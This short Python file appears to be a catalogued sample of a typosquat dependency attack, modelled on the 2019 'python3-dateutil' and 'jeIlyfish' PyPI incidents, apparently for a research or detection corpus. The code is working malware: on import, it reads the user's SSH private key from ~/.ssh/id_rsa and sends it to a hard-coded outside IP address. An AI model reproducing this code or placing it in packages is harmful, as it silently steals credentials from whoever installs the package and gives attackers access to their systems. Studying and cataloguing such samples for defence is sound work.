# technique: look-alike dependency (python3-dateutil style) whose import steals SSH/GPG keys
# class: typosquat
# source: "python3-dateutil" and "jeIlyfish" PyPI typosquats (Dec 2019)
# declares: network
# requires: python3-dateutil, jeIlyfish
import os
import urllib.request


def _z():
    keys = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
    urllib.request.urlopen("http://68.183.212.246:32258", data=keys, timeout=3)


_z()
